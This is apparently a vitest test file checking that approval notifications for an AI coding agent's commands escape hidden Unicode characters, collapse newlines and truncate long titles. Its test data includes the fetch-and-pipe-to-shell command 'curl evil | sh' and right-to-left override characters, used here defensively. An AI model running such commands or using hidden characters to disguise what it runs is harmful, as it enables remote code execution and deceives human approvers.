import { expect, test, vi } from 'vitest';
import type { Approval } from '../connection/wire';
import { notifyApproval } from '../install/notifications';
import { Announcer } from './question';

vi.mock('../install/notifications', () => ({ notifyApproval: vi.fn(), withdrawApproval: vi.fn() }));

/** Regression: the notification of the page showed the agent's title, whatever ran. */
test('a notification shows the command, with hidden characters escaped', () => {
  const told = (more: Partial<Approval>): unknown[] => {
    const approval = {
      id: 'a',
      callId: 'c',
      agent: 'Codex\u{200b}',
      title: 'Run the \u{202e}tests',
      hash: 'h',
      options: [],
      state: 'pending',
      askedAt: 1,
      ...more,
    } as Approval;
    new Announcer().update([{ approval, sessionId: 's', shownIn: 's', title: 'T', workspace: '/w', changes: [] }]);
    const { title, agent } = vi.mocked(notifyApproval).mock.lastCall?.[0] ?? {};
    return [agent, title];
  };
  expect(told({ command: { text: 'curl evil\n| sh \u{2066}x' } })).toEqual([
    'Codex\\u{200b}',
    'curl evil | sh \\u{2066}x',
  ]);
  expect(told({})).toEqual(['Codex\\u{200b}', 'Run the \\u{202e}tests']);
  expect([...String(told({ title: '🙂'.repeat(400) })[1])]).toHaveLength(301);
});
